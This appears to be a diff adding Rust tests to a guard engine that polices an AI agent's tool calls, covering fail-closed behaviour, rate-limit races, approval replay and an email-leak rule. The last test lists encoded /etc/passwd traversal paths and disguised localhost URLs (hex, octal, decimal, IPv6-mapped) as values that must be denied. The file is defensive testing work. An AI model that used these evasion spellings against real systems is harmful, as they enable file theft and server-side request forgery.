@@ -1,7 +1,16 @@
 //! The classes of defect found in systems of this kind, each as a test that it cannot happen here.
-//! Those about streams, approvals and hosts come with those parts.
+//! Those about rewriting, streams and detectors come with those parts.
 
-use guard_tests::engines::{Engines, findings, try_plan};
+use guard_engine::{
+    Answered, Approver, ApproverError, AskedCall, AskedOf, Decision, Duties, Engine, Interpreter,
+    Put, Session, Surroundings, Witness, WitnessError,
+};
+use guard_host::People;
+use guard_journal::{ApprovalStore, Ballot, Filter, MemoryApprovals};
+use guard_plan::Verdict;
+use guard_state::{Claim, Claimed, Key, Rates, StateStore, StoreError};
+use guard_tests::engines::{Engines, findings, plan, try_plan};
+use std::sync::Arc;
 
 fn policy(rules: &str) -> String {
     format!(
@@ -131,4 +140,216 @@ fn a_question_about_a_list_means_the_same_inside_another() {
     let number = "(if any y in tags: y == \"z\" then 1 else 2) in nums";
     assert!(prohibited("", number));
     assert!(!prohibited("", &number.replace("\"z\"", "\"w\"")));
+}
+
+const LOOK: &str = r#"{"type":"tool_call","id":"c","tool":"look","args":{"id":"a"},"at":1000}"#;
+
+/// A session of an engine with these surroundings.
+fn within(rules: &str, around: Surroundings) -> Session {
+    let plan = plan(&policy(rules));
+    let evaluator = Box::new(Interpreter::new(Arc::clone(&plan)));
+    Engine::within(plan, evaluator, around).unwrap().session("mail", "s", b"{}").unwrap()
+}
+
+/// A store, a person's desk and an audit that have all died.
+#[derive(Debug)]
+struct Dead;
+
+fn dead<T>() -> Result<T, StoreError> {
+    Err(StoreError::TimedOut)
+}
+
+impl StateStore for Dead {
+    fn claim(&self, _: &[Claim], _: i64, _: u64) -> Result<Claimed, StoreError> {
+        dead()
+    }
+    fn give_back(&self, _: &[Claim], _: u64) -> Result<(), StoreError> {
+        dead()
+    }
+    fn peek(&self, _: &[Claim], _: i64) -> Result<Claimed, StoreError> {
+        dead()
+    }
+    fn first_time(&self, _: Key) -> Result<bool, StoreError> {
+        dead()
+    }
+    fn remember(&self, _: Key) -> Result<(), StoreError> {
+        dead()
+    }
+    fn record(&self, _: Key, _: bool, _: i64, _: i64) -> Result<(), StoreError> {
+        dead()
+    }
+    fn rates(&self, _: Key, _: i64, _: i64) -> Result<Rates, StoreError> {
+        dead()
+    }
+    fn open(&self, _: Key, _: i64, _: i64) -> Result<(), StoreError> {
+        dead()
+    }
+    fn close(&self, _: Key) -> Result<(), StoreError> {
+        dead()
+    }
+}
+
+impl Approver for Dead {
+    fn ask(&self, _: &AskedCall<'_>, _: AskedOf<'_>) -> Result<Put, ApproverError> {
+        Err(ApproverError("dead".to_owned()))
+    }
+    fn redeem(&self, _: &AskedCall<'_>, _: &[&str]) -> Result<Answered, ApproverError> {
+        Err(ApproverError("dead".to_owned()))
+    }
+    fn is_confirmed(&self, _: &AskedCall<'_>) -> Result<bool, ApproverError> {
+        Err(ApproverError("dead".to_owned()))
+    }
+}
+
+impl Witness for Dead {
+    fn saw(&self, _: &Decision<'_>) -> Result<(), WitnessError> {
+        Err(WitnessError("dead".to_owned()))
+    }
+}
+
+#[test]
+fn a_service_that_has_died_opens_nothing() {
+    let healthy = Surroundings::default;
+    let store = || Surroundings { store: Arc::new(Dead), ..Surroundings::default() };
+    let approver = || Surroundings { approver: Some(Arc::new(Dead)), ..Surroundings::default() };
+    let witness = || Surroundings { witness: Some(Arc::new(Dead)), ..Surroundings::default() };
+    let decide = |rules: &str, around| within(rules, around).decide(LOOK.as_bytes()).verdict();
+    for (rules, around) in [
+        ("limit tool look to 5 per 10s", store()),
+        ("prohibit tool look when not novel(id)", store()),
+        (
+            "breaker b on tool look opens when denials > 50% of at least 2 over 10s closes after 4s",
+            store(),
+        ),
+        ("prohibit tool look when not confirmed by user", approver()),
+        ("escalate tool look to \"lead\"", approver()),
+        ("", witness()),
+    ] {
+        let rules = format!("scope {{ tool look }}\n{rules}");
+        assert_eq!(decide(&rules, around), Verdict::Deny, "{rules}");
+    }
+    assert_eq!(decide("scope { tool look }", healthy()), Verdict::Allow);
+}
+
+#[test]
+fn a_question_that_nobody_can_be_asked_is_no_permission() {
+    let rules = "scope { tool look } escalate tool look to \"lead\"";
+    let mut session = within(rules, Surroundings::default());
+    for _ in 0..3 {
+        assert_eq!(session.decide(LOOK.as_bytes()).verdict(), Verdict::Escalate);
+    }
+    // What the host has to do besides, and does not, is no permission either.
+    let rules = "scope { tool look } use credential \"key\" for 5m on tool look";
+    let decide = |duties| {
+        let around = Surroundings { duties, ..Surroundings::default() };
+        within(rules, around).decide(LOOK.as_bytes()).verdict()
+    };
+    assert_eq!(decide(Duties::default()), Verdict::Deny);
+    assert_eq!(decide(Duties::ALL), Verdict::Allow);
+}
+
+#[test]
+fn calls_that_race_do_not_share_the_last_place_of_a_limit() {
+    let plan = plan(&policy("scope { tool look }\nlimit tool look to 3 per 10s"));
+    for _ in 0..20 {
+        let evaluator = Box::new(Interpreter::new(Arc::clone(&plan)));
+        let engine = Engine::new(Arc::clone(&plan), evaluator).unwrap();
+        let allowed = std::thread::scope(|scope| {
+            let threads: Vec<_> = (0..8)
+                .map(|number| {
+                    let name = format!("s{number}");
+                    let mut session = engine.session("mail", &name, b"{}").unwrap();
+                    scope.spawn(move || session.decide(LOOK.as_bytes()).verdict())
+                })
+                .collect();
+            threads
+                .into_iter()
+                .filter_map(|thread| thread.join().ok())
+                .filter(|v| *v == Verdict::Allow)
+                .count()
+        });
+        assert_eq!(allowed, 3);
+    }
+}
+
+#[test]
+fn an_unknown_key_is_refused_wherever_it_stands() {
+    let source = "guard 1\ntool look(id: string)\ndata ceiling: int\nagent mail(user: { id: string }) {\n  scope { tool look when id.length < ceiling and user.id != \"x\" }\n}\n";
+    let engines = Engines::compile(source);
+    assert!(engines.try_facts(br#"{"ceiling":3}"#).is_ok());
+    assert!(engines.try_facts(br#"{"ceiling":3,"cieling":9}"#).is_err());
+    assert!(engines.try_session("mail", r#"{"user":{"id":"u"}}"#).is_some());
+    assert!(engines.try_session("mail", r#"{"user":{"id":"u"},"usr":{}}"#).is_none());
+    assert!(engines.try_session("mail", r#"{"user":{"id":"u","role":"root"}}"#).is_none());
+    let mut session = engines.session("mail", r#"{"user":{"id":"u"}}"#);
+    let call =
+        |args: &str| format!(r#"{{"type":"tool_call","id":"c","tool":"look","args":{args}}}"#);
+    assert_eq!(session.decide(call(r#"{"id":"a"}"#).as_bytes())["decision"], "allow");
+    assert_eq!(
+        session.decide(call(r#"{"id":"a","recursive":true}"#).as_bytes())["decision"],
+        "deny"
+    );
+    // The manifest's own keys: G0902, on its page.
+}
+
+#[test]
+fn two_calls_that_leak_together_do_not_both_pass() {
+    let rules = "scope { tool look, send_email }\nprohibit tool send_email when seen(look) and to.domain != \"acme.com\"";
+    let send = r#"{"type":"tool_call","id":"d","tool":"send_email","args":{"to":"eve@evil.test","body":"x"}}"#;
+    let engines = Engines::compile(&policy(rules));
+    let mut session = engines.session("mail", "{}");
+    assert_eq!(session.decide(send.as_bytes())["decision"], "allow");
+    assert_eq!(session.decide(LOOK.as_bytes())["decision"], "allow");
+    assert_eq!(session.decide(send.as_bytes())["decision"], "deny");
+}
+
+#[test]
+fn an_approved_call_passes_once_and_only_as_it_was_approved() {
+    let tickets = Arc::new(MemoryApprovals::new());
+    let approver = Some(Arc::new(People::new(Arc::clone(&tickets) as _)) as _);
+    let around = Surroundings { approver, ..Surroundings::default() };
+    let mut session = within("scope { tool look } escalate tool look to \"lead\"", around);
+    assert_eq!(session.decide(LOOK.as_bytes()).verdict(), Verdict::Escalate);
+    let asked = tickets.list(&Filter::default()).unwrap();
+    tickets.vote(&asked[0].id, "ada", &Ballot::Yes, 2_000).unwrap();
+    let later = LOOK.replace("1000", "3000");
+    let other = later.replace("\"id\":\"a\"", "\"id\":\"b\"");
+    assert_eq!(session.decide(other.as_bytes()).verdict(), Verdict::Escalate);
+    // The same call in another spelling, and with another id, needs no new approval; and has but one.
+    let respelt = later.replace("\"a\"", "\"\\u0061\"").replace("\"c\"", "\"c2\"");
+    assert_eq!(session.decide(respelt.as_bytes()).verdict(), Verdict::Allow);
+    assert_eq!(session.decide(later.as_bytes()).verdict(), Verdict::Escalate);
+}
+
+// Commands are texts to us; paths and addresses are what can be spelt in many ways here.
+#[test]
+fn a_denied_value_that_is_spelt_otherwise_is_still_denied() {
+    let source = "guard 1\ntool open(file: path?, page: url?)\nagent mail {\n  scope { tool open }\n  prohibit tool open when has file and file.within(\"/etc\")\n  prohibit tool open when has page and page.is_private\n}\n";
+    let engines = Engines::compile(source);
+    let decide = |key: &str, value: &str| {
+        let value = serde_json::Value::from(value);
+        let event =
+            format!(r#"{{"type":"tool_call","id":"c","tool":"open","args":{{"{key}":{value}}}}}"#);
+        engines.session("mail", "{}").decide(event.as_bytes())["decision"].clone()
+    };
+    for file in ["/etc/passwd", "/work/../etc/passwd", "//etc/./passwd", "/etc", "/etc/x/.."] {
+        assert_eq!(decide("file", file), "deny", "{file}");
+    }
+    for page in [
+        "http://127.0.0.1/",
+        "http://2130706433/",
+        "http://0x7f.1/",
+        "http://0177.0.0.1/",
+        "http://[::1]/",
+        "http://[::ffff:127.0.0.1]/",
+        "HTTP://LocalHost/",
+        "http://localhost./",
+        "http:\\\\127.0.0.1\\x",
+        "http://a@127.0.0.1:80/",
+        "http://\u{ff11}27.0.0.1/",
+    ] {
+        assert_eq!(decide("page", page), "deny", "{page}");
+    }
+    assert_eq!(decide("file", "/work/etc/passwd"), "allow");
+    assert_eq!(decide("page", "https://home.example/127.0.0.1"), "allow");
 }
